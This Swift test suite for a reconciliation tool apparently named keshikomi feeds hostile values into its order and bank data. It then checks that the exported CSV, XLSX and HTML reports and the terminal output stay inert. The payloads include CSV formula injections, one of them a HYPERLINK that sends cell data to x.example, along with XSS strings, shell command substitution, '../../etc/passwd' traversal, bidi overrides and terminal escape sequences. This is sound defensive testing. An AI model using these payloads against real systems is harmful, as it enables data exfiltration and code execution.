import Foundation
import Model
import Running
import TestKit
import Testing

/// What somebody may write where a name belongs: into a transfer, an order, a file's name.
private let attacks: [String] = [
  "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "\u{3000}=1+1", "\u{A0}=1+1", "\u{200B}=1+1", "＝1+1",
  "＋1", "－1", "＠1", "=\u{301}1+1", "'=1+1", "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)",
  "</style></table><iframe src=javascript:alert(1)>", "&lt;b&gt;", "]]><x>", "{{7*7}}", "%s%n%x",
  "$(touch x)`touch x`", "../../etc/passwd", "\u{202E}fdp.exe", "\u{2066}x\u{2069}", "-rf",
]

/// The same with what CSV, but no XML, can carry.
private let controls = [
  "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{9B}2J", "a\tb", "\t=1+1", "\u{7F}x",
  "\u{8}x",
]

private let moment = "2026-11-19T10:30"

private func quoted(_ text: String) -> String {
  "\"" + text.replacing("\"", with: "\"\"") + "\""
}

/// A day on which every attack is a customer, an order number, a shop, a payer and a message.
private func hostileShop() throws -> Shop {
  let shop = try Shop(policy: "language: en\nshop_reports: true\n")
  var orders =
    "order_id,shop_id,ordered_at,payment_method,customer_name,customer_kana,amount_due,status\n"
  var money = "deposit_id,booking_date,value_date,amount,payer_name,edi_info\n"
  for (n, text) in (attacks + controls).enumerated() {
    let cell = quoted(text)
    orders += "\(cell),\(n % 3 == 0 ? cell : "S1"),2026-11-16T09:00:00+09:00,bank_transfer,"
    orders += "\(cell),\(cell),\(4_000 + n),open\n"
    // Some fit, some are short, some are nobody's.
    money +=
      "\(quoted("D\(n)" + text)),2026-11-17,2026-11-17,\(4_000 + n - n % 4 * 7),\(cell),\(cell)\n"
  }
  try shop.put("orders <b>x<b>.csv", Array(orders.utf8))
  try shop.put("=bank\u{202E}\u{1B}[2J.csv", Array(money.utf8))
  try shop.put("-bad'\"<i>\n.csv", Array("取引日,摘要\n\u{1B}[1m".utf8))
  return shop
}

/// Cells of a CSV file, as a spreadsheet takes them apart.
private func cells(_ bytes: [UInt8]) -> [String] {
  var cells: [String] = []
  var cell = String.UnicodeScalarView()
  var isQuoted = false
  var scalars = Array(String(decoding: bytes, as: UTF8.self).unicodeScalars)[...]
  while let next = scalars.popFirst() {
    switch next {
    case "\"" where isQuoted && scalars.first == "\"": cell.append(scalars.removeFirst())
    case "\"": isQuoted.toggle()
    case "," where !isQuoted, "\r" where !isQuoted, "\n" where !isQuoted:
      cells.append(String(cell))
      cell = String.UnicodeScalarView()
    default: cell.append(next)
    }
  }
  return cells + [String(cell)]
}

/// What a spreadsheet would compute: not a number of ours.
private func isFormula(_ cell: String) -> Bool {
  if Int64(cell) != nil { return false }
  let blanks: Set<Unicode.Scalar> = [" ", "\u{3000}", "\u{A0}", "\u{200B}", "\u{FEFF}", "\0"]
  let first = cell.unicodeScalars.first { !blanks.contains($0) }
  return first.map { "=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? false
}

@Test("No CSV of a report or an export holds a cell that a spreadsheet would run")
func noFormulas() throws {
  let shop = try hostileShop()
  try shop.run(moment)
  var files = try shop.report().filter { $0.key.hasSuffix(".csv") }
  let exports = [
    ["release"], ["journal", "--format", "neutral", "--by", "Aoki"],
  ]
  for words in exports {
    let name = shop.folder.appendingPathComponent("out-\(words[0]).csv")
    let result = try runKeshikomi(
      ["export", words[0], "-w", shop.folder.path, "--as-of", moment, "-o", name.path]
        + words.dropFirst())
    try #require(result.exitCode <= 1, "\(result.errors)")
    files[name.lastPathComponent] = try readBytes(name)
  }
  #expect(files.count >= 10)
  var count = 0
  for (name, bytes) in files {
    for cell in cells(bytes) {
      count += 1
      if isFormula(cell) { Issue.record("\(name): \(cell.debugDescription)") }
    }
  }
  #expect(count > 2_000)
}

@Test("Workbooks hold texts and numbers, and neither formulas nor links")
func workbooksAreInert() throws {
  let shop = try hostileShop()
  try shop.run(moment)
  let books = try shop.report().filter { $0.key.hasSuffix(".xlsx") }
  #expect(books.count >= 2)
  for (name, bytes) in books {
    let text = String(decoding: unzipped(bytes), as: UTF8.self)
    #expect(text.contains("HYPERLINK") == text.contains("=HYPERLINK("), "\(name)")
    for mark in ["<f>", "<f ", "externalLink", "TargetMode=\"External\"", "oleObject", "macro"] {
      #expect(!text.contains(mark), "\(name) has \(mark)")
    }
  }
}

/// Start tags of a page: names with their attributes' names and values, as a browser cuts them.
private func tags(_ page: String) -> [(name: String, attributes: [(String, String)])] {
  var found: [(String, [(String, String)])] = []
  var rest = Array(page.unicodeScalars)[...]
  let blanks: Set<Unicode.Scalar> = [" ", "\n", "\t", "\r", "/"]
  func word(_ stop: (Unicode.Scalar) -> Bool) -> String {
    var text = String.UnicodeScalarView()
    while let next = rest.first, !stop(next) { text.append(rest.removeFirst()) }
    return String(text).lowercased()
  }
  while let next = rest.popFirst() {
    guard next == "<", let first = rest.first, first.properties.isAlphabetic else { continue }
    let name = word { blanks.contains($0) || $0 == ">" }
    var attributes: [(String, String)] = []
    while let next = rest.first, next != ">" {
      if blanks.contains(next) {
        rest.removeFirst()
        continue
      }
      let key = word { blanks.contains($0) || $0 == ">" || $0 == "=" }
      guard rest.first == "=" else {
        attributes.append((key, ""))
        continue
      }
      rest.removeFirst()
      if let quote = rest.first, quote == "\"" || quote == "'" {
        rest.removeFirst()
        attributes.append((key, word { $0 == quote }))
        rest = rest.dropFirst()
      } else {
        attributes.append((key, word { blanks.contains($0) || $0 == ">" }))
      }
    }
    found.append((name, attributes))
    // What a script or a style holds is no markup; ours stand in the head.
    if name == "script" || name == "style" {
      let end = Array("</\(name)".unicodeScalars)
      while !rest.isEmpty, !rest.starts(with: end) { rest.removeFirst() }
    }
  }
  return found
}

@Test("A page takes nothing of what it shows for markup, and would load and run nothing foreign")
func pagesAreInert() throws {
  let shop = try hostileShop()
  try shop.run(moment)
  let quiet = try Shop(policy: "language: en\n")
  try quiet.run(.eve)
  try quiet.run(.day)
  // A page of tame data says which elements and attributes are ours.
  let tame = tags(String(decoding: try quiet.report()["report.html"] ?? [], as: UTF8.self))
  let names = Set(tame.map(\.name))
  let keys = Set(tame.flatMap { $0.attributes.map(\.0) })
  #expect(!names.contains("iframe") && !keys.contains { $0.hasPrefix("on") })
  let pages = try shop.report().filter { $0.key.hasSuffix(".html") }
  #expect(pages.count >= 2)
  for (file, bytes) in pages {
    let page = String(decoding: bytes, as: UTF8.self)
    #expect(page.contains("http-equiv=Content-Security-Policy content=\"default-src 'none';"))
    for tag in tags(page) {
      #expect(names.contains(tag.name), "\(file): <\(tag.name)>")
      for (key, value) in tag.attributes {
        #expect(keys.contains(key), "\(file): <\(tag.name) \(key)=\(value)>")
        if key == "href" { #expect(value.hasPrefix("#"), "\(file): \(value)") }
      }
    }
    #expect(page.unicodeScalars.allSatisfy { $0 == "\n" || !isObeyed($0) }, "\(file)")
  }
}

/// What a terminal, or whoever reads a text, would obey instead of show.
private func isObeyed(_ scalar: Unicode.Scalar) -> Bool {
  switch scalar.value {
  case 0x00...0x1F, 0x7F...0x9F, 0x61C, 0x200E, 0x200F, 0x2028...0x202E, 0x2066...0x2069: true
  default: false
  }
}

@Test("Nothing that a name holds moves a terminal's cursor, forges a line or turns its writing")
func terminalsAreSafe() throws {
  let shop = try hostileShop()
  let evil = "\u{1B}[31m\u{202E}\nNothing is left for a person."
  let entry = { try shop.table("entries.csv").first?["entry_id"] ?? "" }
  func said(_ arguments: [String]) throws {
    let result = try shop.keshikomi(arguments)
    for (name, text) in [("output", result.output), ("errors", result.errors)] {
      let bad = text.unicodeScalars.first { $0 != "\n" && isObeyed($0) }
      #expect(bad == nil, "\(arguments) \(name): \(bad.debugDescription) \(text.debugDescription)")
      #expect(
        !text.split(separator: "\n").contains("Nothing is left for a person."), "\(arguments)")
    }
  }
  try said(["run", "--log-json", "--as-of", moment])
  try said(["explain", try entry()])
  for text in attacks.prefix(3) + controls { try said(["explain", text]) }
  try said(["explain", evil])
  try said(["find", "--counterparty", "=", "--date", "2026-01-01.."])
  for command in ["status", "answers", "aliases", "verify"] { try said([command]) }
  try said(["notice", "add", "--kind", "N07", "--order", controls[0], "--reason", evil])
  try said(["notice", "list"])
  try said(["override", "--reason", evil, "--by", evil, "no\u{1B}[2Jfile"])
  try said(["resolve", "no\u{202E}\u{1B}[2Jfile"])
  try said([evil])
  for text in [evil, "no\u{9B}file.csv"] {
    let result = try runKeshikomi(["check", text])
    #expect(
      (result.output + result.errors).unicodeScalars.allSatisfy { $0 == "\n" || !isObeyed($0) })
  }
}
